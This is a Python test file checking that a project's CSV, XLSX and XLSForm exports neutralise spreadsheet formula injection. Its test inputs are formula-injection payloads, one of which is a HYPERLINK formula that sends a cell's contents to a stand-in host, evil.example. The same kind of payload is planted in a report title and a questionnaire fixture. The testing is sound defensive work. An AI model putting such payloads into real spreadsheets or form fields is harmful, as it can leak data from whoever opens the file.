"""Spreadsheet exports never turn text into a formula (digiready.spreadsheet): the helper
itself, the report's XLSX annex and the field study's XLSForm. The portal and LTI exports are
tested over HTTP beside their apps (tests/symposium_portal/test_admin.py,
tests/lti_tool/test_exports.py)."""
from __future__ import annotations

import csv
import io
import shutil
import zipfile
from datetime import datetime, timezone
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from digiready.spreadsheet import csv_writer, xlsx_append

HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)",
           "\t=1+1", "\r=1+1"]


def cells_xml(data: bytes, sheet: str = "sheet1") -> str:
    return zipfile.ZipFile(io.BytesIO(data)).read(f"xl/worksheets/{sheet}.xml").decode()


def test_csv_cells_that_would_start_a_formula_start_with_a_quote():
    out = io.StringIO()
    csv_writer(out).writerow([*HOSTILE, "Ana", -5, 2.5, "", None, "a=b"])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[:6] == ["'" + v for v in HOSTILE]
    assert row[6:] == ["Ana", "-5", "2.5", "", "", "a=b"]  # numbers and other text unchanged


def test_xlsx_cells_stay_text_and_exact():
    wb = Workbook()
    xlsx_append(wb.active, [*HOSTILE, -5, "bell\x07", "Ana"])
    buf = io.BytesIO()
    wb.save(buf)
    xml = cells_xml(buf.getvalue())
    assert "<f>" not in xml  # no formula stored
    cells = list(load_workbook(io.BytesIO(buf.getvalue())).active[1])
    assert [c.value for c in cells[:6]] == HOSTILE and all(c.data_type == "s" for c in cells[:6])
    assert all(c.quotePrefix for c in cells[:6])  # Excel's mark for text typed after a '
    assert cells[6].value == -5 and cells[7].value == "bell\ufffd" and not cells[8].quotePrefix


def test_report_xlsx_annex(tmp_path):
    from digiready.reports.model import Report, Table
    from digiready.reports.xlsx import write_xlsx

    report = Report("needs-assessment", '=HYPERLINK("https://evil.example","t")', "sub", ["pe"],
                    True, datetime.now(timezone.utc))
    report.section("s", "S").add(Table("t1", "+caption", ["comment", "value"],
                                      [["=1+1", -3], ["@x", 4.5], ["-2 points", 1]]))
    path = write_xlsx(report, tmp_path / "annex.xlsx")
    wb = load_workbook(path)
    sheet = wb["t1"]
    rows = list(sheet.iter_rows())
    assert rows[0][0].value == "+caption"
    assert [[c.value for c in row] for row in rows[-4:]] == [
        ["comment", "value"], ["=1+1", -3], ["@x", 4.5], ["-2 points", 1]]
    texts = [row[0] for row in rows[-3:]]  # text that starts like a formula stays text
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)
    assert rows[-3][1].data_type == "n"  # numbers stay numbers
    assert wb["Contents"]["A1"].data_type == "s"
    assert "<f>" not in cells_xml(path.read_bytes()) + cells_xml(path.read_bytes(), "sheet2")


@pytest.fixture
def pack_with_formula_text(tmp_path) -> Path:
    pack = tmp_path / "pack"
    shutil.copytree(Path(__file__).parents[1] / "digiready" / "fixtures" / "pack", pack)
    questions = pack / "questions.yaml"
    text = questions.read_text()
    assert "    text: How can customers pay you?\n" in text
    questions.write_text(text.replace("    text: How can customers pay you?\n",
                                      "    text: \"=HYPERLINK('https://evil.example','pay')\"\n"))
    return pack


def test_field_study_xlsform(pack_with_formula_text, tmp_path):
    from digiready.packs import load_pack
    from digiready.reports.fieldstudy.xlsform import write_xlsform

    path = write_xlsform(load_pack(pack_with_formula_text), tmp_path / "form.xlsx")
    survey = load_workbook(path)["survey"]
    labels = [c for row in survey.iter_rows() for c in row
              if c.value == "=HYPERLINK('https://evil.example','pay')"]
    assert labels and all(c.data_type == "s" for c in labels)
